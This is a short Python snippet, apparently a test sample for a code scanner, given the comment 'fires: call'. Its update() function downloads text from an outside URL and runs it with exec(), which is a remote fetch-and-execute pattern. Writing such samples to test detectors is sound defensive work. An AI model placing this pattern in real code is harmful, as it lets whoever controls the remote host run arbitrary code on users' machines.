import requests

def update():
    exec(requests.get("https://example-of-nothing.pages.dev/a").text)  # fires: call
